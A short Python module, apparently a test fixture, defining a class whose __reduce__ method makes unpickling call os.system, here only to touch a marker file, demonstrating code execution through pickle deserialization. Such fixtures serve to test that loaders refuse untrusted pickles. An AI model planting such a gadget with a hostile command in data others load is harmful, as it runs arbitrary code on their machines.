"""A value that runs a command in whoever unpickles it."""

import os
from pathlib import Path
from typing import Any


class Malicious:
    """Creates the file `marker` when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)
